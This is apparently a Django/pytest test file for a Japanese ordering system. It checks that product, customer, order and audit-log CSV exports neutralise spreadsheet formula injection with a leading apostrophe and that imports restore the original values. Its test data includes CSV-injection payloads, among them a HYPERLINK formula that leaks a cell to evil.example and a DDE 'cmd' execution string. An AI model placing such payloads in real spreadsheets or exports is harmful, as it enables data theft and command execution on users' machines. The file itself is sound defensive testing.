"""A cell that a spreadsheet would run as a formula is exported with a leading apostrophe
(OWASP "CSV injection"), and the import removes the apostrophe again."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from django.db import transaction
from django.test import Client
from django.urls import reverse

from tsunagu.accounts.models import Membership, Organization
from tsunagu.audit import services as audit
from tsunagu.catalog.models import Product
from tsunagu.catalog.tests.factories import ProductFactory
from tsunagu.core.spreadsheet import quote_formula, unquote_formula
from tsunagu.customers.models import Customer
from tsunagu.customers.tests.factories import CustomerFactory
from tsunagu.integrations.tests.orders_csv import (
    export_orders,
    import_orders,
    run_command,
    write_file,
)
from tsunagu.ordering.models import OrderLine
from tsunagu.ordering.rules import LineRequest
from tsunagu.ordering.services import send_order
from tsunagu.ordering.tests.factories import linked_customer

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"詳細")'
DANGEROUS = [
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tタブ始まり",
    "\r改行始まり",
    "＝全角の等号",
    "'=すでにアポストロフィ",
    # Spaces in front: a spreadsheet (or a person tidying the file) may trim them.
    " =1+1",
    "\u3000＝SUM(A1)",
    "\n@SUM(1+1)",
    "' -2+3",
]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe_and_comes_back(value: str) -> None:
    quoted = quote_formula(value)

    assert quoted == "'" + value
    assert unquote_formula(quoted) == value


@pytest.mark.parametrize(
    "value", ["-5", "-400", "+3", "-1,200", "-12.5", "1200", "キャベツ", "'90年代", "", "a=b"]
)
def test_numbers_and_plain_text_stay_as_they_are(value: str) -> None:
    assert quote_formula(value) == value
    assert unquote_formula(value) == value


def table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


@pytest.mark.django_db
def test_the_product_export_quotes_formulas_and_imports_back_unchanged(
    supplier_client: Client, supplier: Organization, tmp_path: Path
) -> None:
    for index, value in enumerate(DANGEROUS):
        ProductFactory.create(
            supplier=supplier,
            product_code=f"F{index}",
            name=value.strip() or "x",
            category="=1+1",
            unit_price=Decimal("1200"),
        )
    before = {p.product_code: (p.name, p.category) for p in Product.objects.all()}

    response = supplier_client.get(reverse("product-export"))
    text = b"".join(response.streaming_content).decode("utf-8")  # type: ignore[attr-defined]

    rows = table(text)
    assert rows[0]["商品名"] == "'" + HYPERLINK
    assert {row["カテゴリ"] for row in rows} == {"'=1+1"}
    assert {row["単価"] for row in rows} == {"1200"}
    assert not [row for row in rows if row["商品名"][:1] in {"=", "+", "-", "@", "\t", "\r"}]
    path = write_file(tmp_path, "products.csv", text.encode("utf-8"))
    run = run_command("import_csv", "products", "--supplier", "test-supplier", path)
    assert run.code == 0, run.out
    assert {p.product_code: (p.name, p.category) for p in Product.objects.all()} == before


@pytest.mark.django_db
def test_the_customer_export_quotes_formulas_and_imports_back_unchanged(
    supplier_client: Client, supplier: Organization, tmp_path: Path
) -> None:
    CustomerFactory.create(
        supplier=supplier, customer_code="C1", name="@HYPERLINK(1)", address="=住所", phone=""
    )

    response = supplier_client.get(reverse("customer-export"))
    text = b"".join(response.streaming_content).decode("utf-8")  # type: ignore[attr-defined]

    (row,) = table(text)
    assert (row["得意先名"], row["住所"]) == ("'@HYPERLINK(1)", "'=住所")
    path = write_file(tmp_path, "customers.csv", text.encode("utf-8"))
    assert run_command("import_csv", "customers", "--supplier", "test-supplier", path).code == 0
    customer = Customer.objects.get()
    assert (customer.name, customer.address) == ("@HYPERLINK(1)", "=住所")


@pytest.mark.django_db
def test_a_buyers_line_note_reaches_the_order_csv_quoted_and_imports_back(
    supplier: Organization, buyer: Organization, buyer_member: Membership, tmp_path: Path
) -> None:
    customer, location = linked_customer(supplier, buyer, customer_code="C001")
    product = ProductFactory.create(supplier=supplier, product_code="P001", unit_price=100)
    send_order(
        buyer_member,
        customer,
        location=location,
        lines=[LineRequest(product, 2, note=HYPERLINK)],
        delivery_date=date(2026, 11, 27),
        idempotency_key="formula",
        now=datetime(2026, 11, 26, 10, 0, tzinfo=ZoneInfo("Asia/Tokyo")),
    )
    output = tmp_path / "orders.csv"

    assert export_orders("--encoding", "utf-8", "--output", str(output)).code == 0

    (row,) = table(output.read_text(encoding="utf-8"))
    assert row["備考"] == "'" + HYPERLINK
    assert (row["数量"], row["単価"], row["金額"]) == ("2", "100", "200")
    run = import_orders(str(output))
    assert run.code == 0, run.out
    assert OrderLine.objects.get().note == HYPERLINK


@pytest.mark.django_db
def test_the_operation_log_csv_quotes_formulas(
    supplier_client: Client, supplier: Organization
) -> None:
    with transaction.atomic():
        audit.record(
            "customer.saved",
            actor=None,
            organization=supplier,
            target_label="=1+1",
            actor_email="@example",
        )

    response = supplier_client.get(reverse("audit-log"), {"format": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8")  # type: ignore[attr-defined]

    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert ("'@example", "'=1+1") in [(row[1], row[4]) for row in rows[1:]]
